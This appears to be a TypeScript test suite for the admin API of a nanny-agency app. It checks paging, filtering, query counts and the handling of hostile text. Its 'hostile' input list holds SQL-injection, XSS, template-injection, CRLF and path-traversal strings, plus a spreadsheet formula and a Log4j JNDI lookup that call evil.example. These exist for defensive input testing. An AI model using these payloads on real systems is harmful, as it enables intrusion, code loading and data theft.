import { adminUser } from '@nanny-polo/shared/accounts/admin-user';
import { role } from '@nanny-polo/shared/accounts/role';
import { normaliseLine, normaliseText } from '@nanny-polo/shared/contract/plain-text';
import { lookupNannyPolo, lookupParents, lookupRole } from '@nanny-polo/shared/office/lookup';
import { documentType } from '@nanny-polo/shared/people/document-type';
import { nanny } from '@nanny-polo/shared/people/nanny';
import { nannyPolo } from '@nanny-polo/shared/people/nanny-polo';
import { parentDocuments } from '@nanny-polo/shared/people/parent-documents';
import { type Parent, parents } from '@nanny-polo/shared/people/parents';
import { describe, expect, test, vi } from 'vitest';
import * as z from 'zod/mini';
import { openProduct } from '../../test/product.ts';

const product = await openProduct();
const owner = await product.signedIn('owner');

type Fields = Record<string, unknown> & { id: number };

async function page(name: string, query: Record<string, unknown>) {
  const search = new URLSearchParams(
    Object.entries(query).map(([key, value]) => [key, JSON.stringify(value)]),
  );
  const { headers, _data } = await owner.request<Fields[]>(`/admin/${name}?${search}`);
  return { records: _data ?? [], total: Number(headers.get('content-range')?.split('/').at(-1)) };
}
const all = async (name: string, filter: object = {}) =>
  (await page(name, { filter, range: [0, 999], sort: ['id', 'ASC'], ...furtherOf(name) })).records;

const resources = [
  [
    nannyPolo,
    [
      'status',
      'tier',
      'languages',
      'skills',
      'age_groups',
      'overnight_ok',
      'live_in_ok',
      'first_aid',
      'documents_valid',
    ],
  ],
  [nanny, ['status', 'nanny_polo_id']],
  [parents, ['status', 'provider', 'tags', 'preferred_nanny_polo_ids', 'blocked_nanny_polo_ids']],
  [parentDocuments, ['state', 'status', 'parent_id', 'document_type_id']],
  [documentType, ['required_for']],
  [role, []],
  [adminUser, ['status', 'role_id']],
] as const;

/** Returns the fields that the list record of a resource lacks, as a query names them. */
function furtherOf(name: string): { fields?: string[] } {
  const found = resources.find(([one]) => one.name === name)?.[0];
  const listed: readonly string[] = found?.listed ?? [];
  const fields = Object.keys(found?.get.schema.response[200].shape ?? {});
  const further = fields.filter((field) => !listed.includes(field));
  return further.length > 0 ? { fields: further } : {};
}

const sortsOf = ({ list }: (typeof resources)[number][0]): readonly string[] => {
  const { properties } = z.toJSONSchema(list.schema.querystring, { io: 'output', unrepresentable: 'any' });
  const { prefixItems } = (properties?.sort ?? {}) as { prefixItems?: { enum: string[] }[] };
  return prefixItems?.[0]?.enum ?? [];
};

describe.each(
  resources.map(([resource, filters]) => ({
    name: resource.name,
    resource,
    filters: [...filters] as string[],
  })),
)('the list of $name', ({ name, resource, filters }) => {
  test('returns each record once in any order, page by page, with empty values last', async () => {
    const ids = (await all(name)).map((one) => one.id);
    const size = Math.max(3, Math.ceil(ids.length / 3));
    expect(sortsOf(resource).length).toBeGreaterThan(3);
    for (const field of sortsOf(resource)) {
      for (const direction of ['ASC', 'DESC'] as const) {
        const found: Fields[] = [];
        for (let from = 0; from < ids.length; from += size) {
          const { records, total } = await page(name, {
            range: [from, from + size - 1],
            sort: [field, direction],
            ...furtherOf(name),
          });
          expect(total).toBe(ids.length);
          found.push(...records);
        }
        expect(found.map((one) => one.id).sort((a, b) => a - b)).toEqual(ids);
        const values = found.map((one) => one[field] ?? null);
        const empty = values.indexOf(null);
        if (empty >= 0) expect(new Set(values.slice(empty))).toEqual(new Set([null]));
        const numbers = values.filter((one) => typeof one === 'number');
        const sorted = numbers.toSorted((a, b) => (direction === 'ASC' ? a - b : b - a));
        expect([field, direction, numbers]).toEqual([field, direction, sorted]);
      }
    }
  });

  // A resource without filters has nothing to test here.
  test.runIf(filters.length > 0)('returns what the filter matches, with the exact total', async () => {
    const records = await all(name);
    for (const field of filters) {
      const values = [...new Set(records.flatMap((one) => one[field]))].filter((one) => one !== null);
      expect([field, values.length > 0]).toEqual([field, true]);
      for (const value of values.slice(0, 8)) {
        const expected = records.filter((one) => [one[field]].flat().includes(value)).map((one) => one.id);
        const { records: found, total } = await page(name, {
          filter: { [field]: value },
          range: [0, 1],
          sort: ['id', 'ASC'],
        });
        expect([field, value, total]).toEqual([field, value, expected.length]);
        expect(found.map((one) => one.id)).toEqual(expected.slice(0, 2));
      }
    }
  });

  test('costs as many queries for fifty records as for one', async () => {
    const client: { query: (...input: unknown[]) => unknown } = Reflect.get(product.db, '$client');
    const queries = vi.spyOn(client, 'query');
    const cost = async (last: number) => {
      queries.mockClear();
      await page(name, { range: [0, last] });
      return queries.mock.calls.length;
    };
    const one = await cost(0);
    expect(await cost(49)).toBe(one);
    // The session, the page, and the total.
    expect(one).toBeLessThanOrEqual(3);
    queries.mockRestore();
  });
});

describe('a filter other than equality with a column', () => {
  test('finds dossiers by weekday, rate and expiry of documents', async () => {
    const records = await all('master/nanny-polo');
    const sundays = records.filter((one) =>
      (one.availability as { weekday: number }[]).some((day) => day.weekday === 7),
    );
    expect((await all('master/nanny-polo', { weekdays: [7] })).length).toBe(sundays.length);
    const rates = { bill_rate_minor_gte: 2000, bill_rate_minor_lte: 2500 };
    const between = records.filter(
      (one) => Number(one.bill_rate_minor) >= 2000 && Number(one.bill_rate_minor) <= 2500,
    );
    expect((await all('master/nanny-polo', rates)).map((one) => one.id)).toEqual(
      between.map((one) => one.id),
    );
    const soon = String(
      records
        .map((one) => one.documents_expire_on)
        .filter(Boolean)
        .toSorted()[3],
    );
    const expiring = records.filter(
      (one) => one.documents_expire_on && String(one.documents_expire_on) <= soon,
    );
    const found = await all('master/nanny-polo', { documents_expire_on_lte: soon });
    expect(found.map((one) => one.id)).toEqual(expiring.map((one) => one.id));
  });

  test('finds dossiers by a word in their skills', async () => {
    const skillful = (await all('master/nanny-polo')).filter((one) => (one.skills as string[]).length > 0);
    const [skill = ''] = (skillful[0]?.skills ?? []) as string[];
    const expected = skillful.filter((one) => (one.skills as string[]).includes(skill));
    const found = await all('master/nanny-polo', { q: skill.toUpperCase() });
    expect(found.map((one) => one.id)).toEqual(expect.arrayContaining(expected.map((one) => one.id)));
    expect(found.length).toBeLessThanOrEqual(skillful.length);
  });

  test('finds parents by whether they are verified, complete, archived or erased', async () => {
    const records = await all('users/parents');
    const kinds: [string, (one: Fields) => boolean][] = [
      ['email_verified', (one) => one.email_verified_at !== null],
      [
        'documents_complete',
        (one) => (one as Parent).missing_documents.every(({ required_for }) => required_for === 'overnight'),
      ],
      ['archived', (one) => one.archived_at !== null],
      ['erased', (one) => one.erased_at !== null],
    ];
    for (const [field, is] of kinds) {
      for (const wanted of [true, false]) {
        const found = await all('users/parents', { [field]: wanted });
        const expected = records.filter((one) => is(one) === wanted);
        expect([field, wanted, found.length]).toEqual([field, wanted, expected.length]);
      }
    }
  });

  test('finds roles by permission', async () => {
    const names = (await all('role', { permission: 'role' })).map((one) => one.name);
    expect(names).toEqual(['Owner', 'Visitor']);
  });
});

describe('a look-up', () => {
  test('returns an id, a name, a portrait where there is one, and nothing else', async () => {
    const coordinator = await product.signedIn('coordinator');
    expect(Object.keys((await coordinator.call(lookupParents.list, { query: {} }))[0] ?? {})).toEqual([
      'id',
      'name',
    ]);
    const [found] = await coordinator.call(lookupNannyPolo.list, { query: { filter: { q: 'Amara' } } });
    expect(Object.keys(found ?? {})).toEqual(['id', 'name', 'photo']);
    await expect(coordinator.call(lookupRole.list, { query: {} })).rejects.toMatchObject({ status: 403 });
  });
});

const hostile = [
  "Robert'); DROP TABLE parent_user;--",
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  '=HYPERLINK("http://evil.example","x")',
  '+1-1',
  '@SUM(A1)',
  '$' + '{jndi:ldap://evil.example/a}',
  '{{constructor.constructor("alert(1)")()}}',
  '%00%0d%0aSet-Cookie:a=b',
  '%s%s%n %d',
  '\\\\server\\share\\..\\..',
  '../../../../etc/passwd',
  'null',
  'undefined',
  'NaN',
  '٠١٢٣ العربية',
  'Ärger mit Ümlauten ß',
  '𝒳𝒴𝒵 👩‍👩‍👧‍👦 🏴󠁧󠁢󠁥󠁮󠁧󠁿',
  'Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢LGO',
  '\u202Egnp.exe',
  '\uFEFFbom',
  'tab\tnewline\nreturn\r\nend',
  '   spaces around   ',
  'a\0b',
  '\ud800 half',
  ' '.repeat(10),
  'x'.repeat(5000),
];

const address = (text: string) => ({
  label: text,
  line: text,
  postcode: 'N1 9GU',
  lat: 1,
  lng: 1,
  access_notes: text,
});

/** Returns whether the contract accepts a search for a text. */
const isKept = (text: string) =>
  text.length < 200 && text.isWellFormed() && !text.includes('\0') && !text.startsWith('\uFEFF');

/** What lines and texts keep. */
const formOf = (text: string) => normaliseLine(normaliseText(text));

/** The text fields of each resource, with the id of the record that they are written to. */
const written: [string, number, (text: string) => Record<string, unknown>][] = [
  ['master/nanny-polo', 1, (text) => ({ display_name: text, legal_name: text })],
  ['master/nanny-polo', 1, (text) => ({ address: text, bio: text, internal_note: text })],
  ['master/nanny-polo', 1, (text) => ({ languages: [text], skills: [text] })],
  ['master/nanny-polo', 1, (text) => ({ postcode: text, phone: text, email: text })],
  ['users/nanny', 1, (text) => ({ first_name: text, last_name: text, internal_note: text })],
  ['users/parents', 30, (text) => ({ first_name: text, last_name: text, internal_note: text })],
  ['users/parents', 30, (text) => ({ addresses: [address(text)], tags: [text] })],
  [
    'users/parents',
    30,
    (text) => ({ children: [{ name: text, date_of_birth: '2024-01-01', allergies: [text], notes: text }] }),
  ],
  [
    'users/parents',
    30,
    (text) => ({ emergency_contacts: [{ name: text, phone: '+447700900123', relation: text }] }),
  ],
  ['users/parents', 30, (text) => ({ email: text, phone: text })],
  ['master/document-type', 5, (text) => ({ title: text, description: text })],
  ['master/parent-documents', 1, (text) => ({ internal_note: text })],
  ['role', 5, (text) => ({ name: text, description: text })],
  ['admin-user', 4, (text) => ({ first_name: text, last_name: text })],
];

test.each(written)(
  'hostile text in %s %i is returned in its one form or rejected with 422',
  async (name, id, fields) => {
    const get = async () => (await owner.request<Fields>(`/admin/${name}/${id}`))._data as Fields;
    let kept = 0;
    let before = await get();
    for (const text of hostile) {
      const body = JSON.stringify({ version: before.version, ...fields(text) });
      const headers = { 'content-type': 'application/json' };
      const put = owner.request<Fields>(`/admin/${name}/${id}`, { method: 'PUT', body, headers });
      const result = await put.catch((error) => error);
      if (result.status === 422) expect(Object.keys(result.body.errors).length).toBeGreaterThan(0);
      else {
        kept += 1;
        before = await get();
        const same = expect.toSatisfy((stored: string) => formOf(stored) === formOf(text));
        expect(before).toMatchObject(fields(same as never));
      }
    }
    expect(await get()).toEqual(before);
    const strict = 'phone' in fields('');
    expect(kept > 3).toBe(!strict);
  },
);

test.each([
  'master/nanny-polo',
  'users/nanny',
  'users/parents',
  'master/parent-documents',
  'role',
  'admin-user',
])('hostile searches in %s find literal matches or nothing', async (name) => {
  for (const q of hostile.filter(isKept)) {
    expect((await page(name, { filter: { q } })).total).toBeGreaterThanOrEqual(0);
  }
  expect((await page(name, { filter: { q: '%' } })).total).toBeLessThan(5);
});
